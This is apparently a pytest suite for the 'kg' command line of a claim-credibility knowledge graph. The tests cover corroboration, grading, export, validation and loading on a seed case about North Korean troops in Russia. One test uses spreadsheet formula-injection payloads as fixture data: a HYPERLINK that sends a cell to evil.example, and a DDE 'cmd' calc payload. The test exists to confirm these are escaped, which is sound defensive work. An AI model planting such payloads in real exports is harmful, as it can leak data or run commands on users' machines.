"""The ``kg`` command line, in-process: one test per entry point, asserting on the output."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import rdflib
from typer.testing import CliRunner

from api.cli import app
from kg.namespaces import CRED

runner = CliRunner()
SEED_CLAIM = "https://w3id.org/cred-kg/id/claim/nk-troops-in-russia"
PORT_FIRE = Path(__file__).resolve().parents[1] / "data" / "cases" / "port-fire.yaml"


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_help_lists_every_command() -> None:
    code, out, _ = run("--help")
    assert code == 0
    for command in ("load", "validate", "export", "stats", "corroborate", "grades", "explain",
                    "vocab-docs", "ask", "sparql"):
        assert command in out


def test_stats_counts_the_seed_case() -> None:
    code, out, _ = run("stats")
    assert code == 0
    assert "claims" in out and "27" in out  # the seed case has 27 claims


def test_corroborate_json_on_seed_has_the_corroborated_claims() -> None:
    code, out, _ = run("corroborate", "--format", "json", "--status", "corroborated")
    assert code == 0
    claims = {c["id"]: c for c in json.loads(out)}
    assert set(claims) == {"nk-troops-in-russia", "russia-nk-treaty-has-mutual-defence-clause"}
    troops = claims["nk-troops-in-russia"]
    assert [g["label"] for g in troops["affirming"]] == ["South Korea", "Ukraine", "United States"]
    assert [g["label"] for g in troops["hedging"]] == ["Russia"]


def test_corroborate_min_groups_changes_the_status() -> None:
    code, out, _ = run("corroborate", "--format", "json", "--min-groups", "3",
                       "--status", "corroborated")
    assert code == 0
    assert [c["id"] for c in json.loads(out)] == ["nk-troops-in-russia"]


def test_corroborate_table_shows_groups_and_hedges() -> None:
    code, out, _ = run("corroborate", "--contested")
    assert code == 0
    assert "North Korea" in out and "contested" in out


def test_corroborate_refuses_unknown_status() -> None:
    code, _, err = run("corroborate", "--status", "true")
    assert code == 2 and "unknown --status" in err


def test_grades_json_gives_both_axes() -> None:
    code, out, _ = run("grades", "--format", "json")
    assert code == 0
    data = json.loads(out)
    grades = {r["id"]: r["grade"] for r in data["reliability"]}
    assert set(grades.values()) <= set("ABCDEF")
    credibility = {c["id"]: (c["grade"], c["stix_confidence"]) for c in data["credibility"]}
    assert credibility["nk-troops-in-russia"] == (1, 90)
    assert credibility["nk-to-send-up-to-12000-personnel"] == (6, None)


def test_explain_names_groups_quote_and_relay() -> None:
    code, out, _ = run("explain", "nk-troops-in-russia")
    assert code == 0
    assert "Images are a serious thing" in out
    assert "The Washington Post" in out
    assert "count as one source, United States" in out


def test_explain_unknown_claim_fails() -> None:
    code, _, err = run("explain", "no-such-claim")
    assert code == 1 and "no claim" in err


def test_export_claim_neighbourhood_parses_and_holds_the_claim(tmp_path: Path) -> None:
    target = tmp_path / "claim.ttl"
    code, _, _ = run("export", "--claim", "nk-troops-in-russia", "-o", str(target))
    assert code == 0
    graph = rdflib.Graph().parse(target, format="turtle")
    assert (rdflib.URIRef(SEED_CLAIM), CRED.text, None) in graph


def test_validate_reports_file_line_and_exit_code(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(PORT_FIRE.read_text(encoding="utf-8").replace(
        "stance: affirms", "stance: affrms", 1), encoding="utf-8")
    code, _, err = run("validate", str(bad))
    assert code == 1
    assert f"{bad}:" in err and "did you mean 'affirms'" in err
    code, out, _ = run("validate", str(PORT_FIRE))
    assert code == 0 and "valid" in out


def test_load_into_a_store_persists_and_refuses_bad_input(tmp_path: Path) -> None:
    store = tmp_path / "db"
    code, out, _ = run("load", "--store", str(store), str(PORT_FIRE))
    assert code == 0 and "Loaded" in out
    code, out, _ = run("corroborate", "--store", str(store), "--format", "json")
    ids = {c["id"] for c in json.loads(out)}
    assert "fire-runoff-polluted-harbour" in ids and "nk-troops-in-russia" not in ids
    broken = tmp_path / "broken.ttl"
    broken.write_text("<https://e.org/a> <https://e.org/b> .\n", encoding="utf-8")
    code, _, err = run("load", "--store", str(store), str(broken))
    assert code == 1 and f"{broken}:1:" in err
    code, out, _ = run("corroborate", "--store", str(store), "--format", "json")
    assert {c["id"] for c in json.loads(out)} == ids


def test_missing_file_is_a_usage_error(tmp_path: Path) -> None:
    code, _, err = run("load", str(tmp_path / "nope.ttl"))
    assert code == 2 and "no such file" in err


@pytest.mark.parametrize("fmt", ["turtle", "trig", "nt", "nquads", "jsonld", "rdfxml"])
def test_export_every_format_round_trips(fmt: str, tmp_path: Path) -> None:
    target = tmp_path / f"seed.{fmt}"
    code, _, _ = run("export", "--format", fmt, "-o", str(target))
    assert code == 0
    rdflib_format = {"nt": "nt", "nquads": "nquads", "trig": "trig", "turtle": "turtle",
                     "jsonld": "json-ld", "rdfxml": "xml"}[fmt]
    data = rdflib.Dataset()
    data.parse(target, format=rdflib_format)
    subjects = {s for s, _, _, _ in data.quads((None, None, None, None))}
    assert rdflib.URIRef(SEED_CLAIM) in subjects


def test_vocab_docs_writes_the_page(tmp_path: Path) -> None:
    target = tmp_path / "vocabulary.md"
    code, _, _ = run("vocab-docs", "-o", str(target))
    assert code == 0
    assert target.read_text(encoding="utf-8") == (
        Path(__file__).resolve().parents[2] / "docs" / "vocabulary.md").read_text(encoding="utf-8")


def test_the_cli_runs_as_a_module() -> None:
    # ``python -m api.cli`` (no console script on the PATH): the same commands. Run as
    # __main__, the module used to be imported a second time by the command modules, and the
    # import cycle failed before any command ran.
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-m", "api.cli", "ask", "corroborated-claims"],
                          capture_output=True, text=True, timeout=120,
                          cwd=Path(__file__).resolve().parents[2])
    assert done.returncode == 0, done.stderr
    assert "nk-troops-in-russia" in done.stdout


def _csv(out: str) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(out)))


def test_corroborate_csv_has_one_row_per_claim_with_groups_and_hedges() -> None:
    code, out, _ = run("corroborate", "--format", "csv")
    assert code == 0
    rows = {r["id"]: r for r in _csv(out)}
    assert len(rows) == 27
    troops = rows["nk-troops-in-russia"]
    assert (troops["status"], troops["independent_groups"], troops["contested"]) == (
        "corroborated", "3", "False")
    assert [g.split(" (")[0] for g in troops["affirmed_by"].split("; ")] == [
        "South Korea", "Ukraine", "United States"]
    assert troops["hedged_by"] == "Russia (Vladimir Putin)"
    assert (troops["credibility"], troops["stix_confidence"]) == ("1", "90")
    war = rows["nk-sent-troops-to-assist-war-on-ukraine"]
    assert (war["status"], war["contested"], war["contested_by"]) == (
        "unsupported", "True", "North Korea")
    # The same filters as the table: k and --status.
    code, out, _ = run("corroborate", "--format", "csv", "-k", "3", "--status", "corroborated")
    assert [r["id"] for r in _csv(out)] == ["nk-troops-in-russia"]


def test_grades_csv_lists_actors_then_claims() -> None:
    code, out, _ = run("grades", "--format", "csv")
    assert code == 0
    rows = _csv(out)
    kinds = [r["graded"] for r in rows]
    assert kinds == sorted(kinds) and set(kinds) == {"actor", "claim"}
    claims = {r["id"]: r for r in rows if r["graded"] == "claim"}
    assert claims["nk-troops-in-russia"]["grade"] == "1"
    assert claims["nk-troops-in-russia"]["reason"].startswith("Credibility 1")
    putin = next(r for r in rows if r["id"] == "putin")
    assert (putin["grade"], putin["group"]) == ("F", "Russia")


def test_csv_text_that_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
    case = tmp_path / "hostile.yaml"
    case.write_text(
        "format: cred-kg/1\n"
        "document: {id: doc-h, title: Hostile, publisher: outlet, date: 2024-10-24}\n"
        "actors:\n"
        "  - {id: outlet, name: The Outlet, kind: NewsOutlet}\n"
        "  - {id: gov, name: '=HYPERLINK(\"http://evil.example/?\"&A1)', kind: State}\n"
        "claims:\n"
        "  - {id: c-h, text: '@SUM(1+1)*cmd|'' /C calc''!A0'}\n"
        "statements:\n"
        "  - {actor: gov, claim: c-h, stance: affirms, relay: [outlet]}\n",
        encoding="utf-8",
    )
    code, out, err = run("corroborate", "--no-seed", "--format", "csv", str(case))
    assert code == 0, err
    (row,) = _csv(out)
    assert row["text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["affirmed_by"].startswith("'=HYPERLINK(")
    code, out, _ = run("grades", "--no-seed", "--format", "csv", str(case))
    cells = [cell for r in _csv(out) for cell in r.values()]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    # kg ask's CSV is for spreadsheets too (the service's text/csv is the SPARQL results format)
    code, out, err = run("ask", "uncorroborated-claims", "--no-seed", "--format", "csv", str(case))
    assert code == 0, err
    (row,) = _csv(out)
    assert row["text"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_explain_has_no_csv() -> None:
    code, _, err = run("explain", "nk-troops-in-russia", "--format", "csv")
    assert code == 2 and "expected table or json" in err


# Square brackets and colons are ordinary in web text: rich would read "[citation needed]" as a
# style (and drop it), "[/]" as a closing tag (and crash), ":warning:" as an emoji code.
MARKUP_LIKE = "troops [citation needed] seen [/] near :warning: Kursk [bold]"


def test_tables_print_text_as_it_is_never_as_markup(tmp_path: Path) -> None:
    case = tmp_path / "brackets.yaml"
    case.write_text(
        "format: cred-kg/1\n"
        "document: {id: doc-b, title: Brackets, publisher: outlet, date: 2024-10-24}\n"
        "actors:\n"
        "  - {id: outlet, name: The Outlet, kind: NewsOutlet}\n"
        "  - {id: gov, name: 'Ministry [of] :fire: Truth', kind: State}\n"
        f"claims:\n  - {{id: c-b, text: '{MARKUP_LIKE}'}}\n"
        "statements:\n"
        "  - {actor: gov, claim: c-b, stance: affirms, relay: [outlet]}\n",
        encoding="utf-8",
    )
    for command in (["corroborate"], ["grades"], ["explain", "c-b"]):
        code, out, err = run(*command, "--no-seed", str(case))
        assert code == 0, err
        words = out.split()  # a table cell may wrap between words
        for word in (*MARKUP_LIKE.split(), "[of]", ":fire:"):
            assert word in words, (command, word)


def test_an_error_naming_a_term_prints_the_term_as_it_is(tmp_path: Path) -> None:
    case = tmp_path / "label.ttl"
    case.write_text(
        "@prefix cred: <https://w3id.org/cred-kg/ns#> .\n"
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        "<https://example.org/a> a cred:Actor .\n",
        encoding="utf-8",
    )
    code, _, err = run("validate", str(case))
    assert code != 0
    assert "rdfs:label:" in err  # not the emoji ":label:" makes of it


# --- output paths and option values a user gets wrong: a clear error, before any work


@pytest.mark.parametrize("command", [["viz"], ["extract", "ARTICLE"]])
def test_an_output_in_a_missing_folder_is_refused_without_a_traceback(
        command: list[str], tmp_path: Path) -> None:
    article = tmp_path / "article.txt"
    article.write_text("The ministry said the bridge was closed.\n", encoding="utf-8")
    target = tmp_path / "no-such-folder" / "out.file"
    args = [str(article) if a == "ARTICLE" else a for a in command]
    code, _, err = run(*args, "-o", str(target))
    assert code == 2
    assert f"cannot write {target}: no such directory" in " ".join(err.split())
    assert "Traceback" not in err and not target.parent.exists()


def test_extract_names_a_directory_given_as_the_article(tmp_path: Path) -> None:
    code, _, err = run("extract", str(tmp_path))
    assert code == 2 and "a directory, not an article file" in err


def test_several_articles_refuse_a_file_name_as_their_folder(tmp_path: Path) -> None:
    articles = []
    for name in ("a", "b"):
        articles.append(tmp_path / f"{name}.txt")
        articles[-1].write_text("The ministry said the bridge was closed.\n", encoding="utf-8")
    code, _, err = run("extract", *map(str, articles), "-o", str(tmp_path / "story.yaml"))
    assert code == 2 and "several articles need -o DIRECTORY" in err
    assert not (tmp_path / "story.yaml").exists()


def test_an_article_with_no_statement_gives_a_draft_that_validates(tmp_path: Path) -> None:
    article, draft = tmp_path / "weather.txt", tmp_path / "weather.yaml"
    article.write_text("Weather\n\nIt rained in the morning and the sun came out later.\n",
                       encoding="utf-8")
    assert run("extract", str(article), "-o", str(draft))[0] == 0
    assert "statements: []" in draft.read_text(encoding="utf-8")
    code, out, err = run("validate", str(draft))
    assert code == 0, err
    assert "valid" in out + err


def test_ask_refuses_a_limit_below_one() -> None:
    code, _, err = run("ask", "corroborated-claims", "--limit", "-1")
    assert code == 2 and "--limit" in err


def test_a_narrow_table_folds_claim_ids_instead_of_cutting_them(
        monkeypatch: pytest.MonkeyPatch) -> None:
    import api.cli

    monkeypatch.setattr(api.cli.out, "_width", 100)
    code, out, _ = run("corroborate")
    assert code == 0
    assert "…" not in out
    # every id is there, over one or more lines of its cell
    first_cells = "".join(line.split("│")[1].strip() for line in out.splitlines()
                          if line.startswith("│"))
    assert "putin-kim-met-at-vostochny-2023-09-13" in first_cells


@pytest.mark.parametrize(("ident", "hint"), [
    ("putin", "putin is an actor: `kg grades` gives its reliability"),
    ("nk-troops-in-rusia", "did you mean nk-troops-in-russia"),
])
def test_explain_says_what_an_unknown_claim_id_may_be(ident: str, hint: str) -> None:
    code, _, err = run("explain", ident)
    assert code == 1 and hint in " ".join(err.split())


def test_load_replace_takes_a_corrected_case(tmp_path: Path) -> None:
    case = tmp_path / "case.yaml"
    text = ("format: cred-kg/1\ndocument: {id: harbour-report, title: Harbour, date: "
            "2025-03-01}\nactors:\n  - {id: harbour-board, name: NAME, kind: GovernmentBody}\n"
            "claims:\n  - {id: crane-failed, text: The crane failed.}\nstatements:\n"
            "  - {actor: harbour-board, claim: crane-failed, stance: affirms}\n")
    store = str(tmp_path / "store")
    case.write_text(text.replace("NAME", "Harbour Board"), encoding="utf-8")
    assert run("load", "--store", store, str(case))[0] == 0
    case.write_text(text.replace("NAME", "Kell Harbour Board"), encoding="utf-8")
    code, _, err = run("load", "--store", store, str(case))
    assert code == 1 and "Harbour Board" in err  # the two names, and where each comes from
    assert run("load", "--store", store, "--replace", str(case))[0] == 0
    code, out, _ = run("grades", "--store", store, "--format", "json")
    actors = {a["id"]: a for a in json.loads(out)["reliability"]}
    assert actors["harbour-board"]["label"] == "Kell Harbour Board"


def test_load_says_how_many_quads_were_new(tmp_path: Path) -> None:
    def lines(names: range, value: str = "") -> str:
        return "".join(f'<https://e.org/s{n}> <https://e.org/p> "{value}{n}" .\n' for n in names)

    first, overlapping = tmp_path / "a.nt", tmp_path / "b.nt"
    first.write_text(lines(range(25)), encoding="utf-8")
    # 10 quads of its own, 10 of a.nt's and one of those twice (a repeat is new only once)
    overlapping.write_text(lines(range(10), "b") + lines(range(15, 25)) + lines(range(24, 25)),
                           encoding="utf-8")
    store = str(tmp_path / "db")
    _, out, _ = run("load", "--store", store, str(first))
    assert "\n25 new quads; the store now holds 25 quads of data\n" in out
    _, out, _ = run("load", "--store", store, str(first))
    assert "nothing new: all 25 quads were already in the store; the store now holds 25 " in out
    _, out, _ = run("load", "--store", store, str(overlapping))
    assert "10 new quads (11 already in the store); the store now holds 35 quads of data" in out
    # a replacing load empties the named graphs it writes first: only the balance is given
    named = tmp_path / "c.nq"
    named.write_text(lines(range(3)).replace(" .\n", " <https://e.org/g> .\n"), encoding="utf-8")
    _, out, _ = run("load", "--store", store, str(named))
    assert "3 new quads; the store now holds 38 quads of data" in out
    named.write_text(lines(range(2)).replace(" .\n", " <https://e.org/g> .\n"), encoding="utf-8")
    _, out, _ = run("load", "--store", store, "--replace", str(named))
    assert "the store now holds 37 quads of data (-1)" in out
